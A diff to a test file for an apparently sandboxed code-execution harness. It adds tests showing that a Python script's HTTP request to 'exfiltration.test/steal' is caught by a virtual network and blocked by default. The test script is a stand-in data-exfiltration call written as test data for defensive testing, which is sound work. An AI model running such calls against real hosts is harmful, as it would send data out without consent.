@@ -204,6 +204,36 @@ os.system('/tmp/tool')`,
   });
 });
 
+describe('network', () => {
+  const script = `
+import urllib.request
+print(urllib.request.urlopen('http://exfiltration.test/steal?x=1', timeout=20).read().decode())`;
+
+  it('answers by the virtual one, and says what was asked for and sent', async () => {
+    const network = new harness.VirtualNetwork({ http: ({ host, url }) => ({ body: `${host} ${url}` }) });
+    const verdict = await python(script, { network });
+    expect(verdict).toMatchObject({
+      exit: { exitCode: 0 },
+      stdout: { text: 'exfiltration.test /steal?x=1\n' },
+      contained: true,
+      reached: [],
+    });
+    expect(verdict.names.map(({ name }) => name)).toContain('exfiltration.test');
+    expect(verdict.flows.map(({ service }) => service)).toContain('http');
+    const flow = verdict.flows.find(({ service }) => service === 'http');
+    expect(flow).toMatchObject({ protocol: 'tcp', host: 'exfiltration.test', port: 80 });
+    expect(Buffer.from(flow?.sent ?? '', 'base64').toString()).toContain('GET /steal?x=1 HTTP/1.1');
+    expect(network.pcap().length).toBeGreaterThan(200);
+    expect(verdict.evidence.filter(({ layer }) => layer === 'namespace')).toEqual([]);
+  });
+
+  it('is none by default', async () => {
+    const verdict = await python(script);
+    expect(verdict).toMatchObject({ exit: { exitCode: 1 }, names: [], flows: [] });
+    expect(verdict.evidence.filter(({ layer }) => layer === 'namespace').length).toBeGreaterThan(0);
+  });
+});
+
 describe('attacks', () => {
   it.each([
     ['processor/privileged', 'ept', 'fault'],
@@ -248,6 +278,7 @@ describe('refusals', () => {
     ['sample.interpreter', { script: '', interpreter: [1] }, {}],
     ['sample.attack', { attack: 'no/such' }, {}],
     ['options.network', 'true', { network: 'host' }],
+    ['options.network', 'true', { network: {} }],
     ['options.timeoutMs', 'true', { timeoutMs: 0 }],
     ['options.isolation', 'true', { isolation: 'none' }],
     ['options.keep.bytes', 'true', { keep: { bytes: 1 } }],
